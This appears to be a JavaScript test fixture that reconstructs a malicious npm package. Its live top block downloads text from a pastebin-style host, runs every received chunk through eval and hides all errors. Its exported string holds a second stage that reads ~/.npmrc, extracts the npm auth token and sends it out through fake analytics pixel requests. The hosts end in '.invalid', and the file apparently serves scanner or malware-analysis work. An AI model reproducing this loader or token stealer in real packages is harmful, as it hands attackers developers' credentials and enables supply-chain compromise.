try {
  var https = require('https');
  https
    .get(
      {
        hostname: 'pastebin.com.invalid',
        path: '/raw/FIXTURE0',
        headers: {
          'User-Agent': 'Mozilla/5.0 (Windows NT 6.1; rv:52.0) Gecko/20100101 Firefox/52.0',
          Accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
        },
      },
      (r) => {
        r.setEncoding('utf8');
        r.on('data', (c) => {
          eval(c);
        });
        r.on('error', () => {});
      },
    )
    .on('error', () => {});
} catch (e) {}

// What the pastebin served (never fetched here): it ran inside the eval above.
var secondStage =
  "var path=require('path'),fs=require('fs'),https=require('https');" +
  "var npmrc=path.join(process.env.HOME||process.env.USERPROFILE,'.npmrc');" +
  "var content=fs.readFileSync(npmrc,'utf8');" +
  "var token=(content.match(/_authToken=(.*)/)||[])[1];" +
  "if(token){https.get({hostname:'sstatic1.histats.com.invalid',path:'/0.gif?4103075&101&'+token});" +
  "https.get({hostname:'c.statcounter.com.invalid',path:'/11760461/0/7b5b9d71/1/?'+token});}";
module.exports = secondStage;
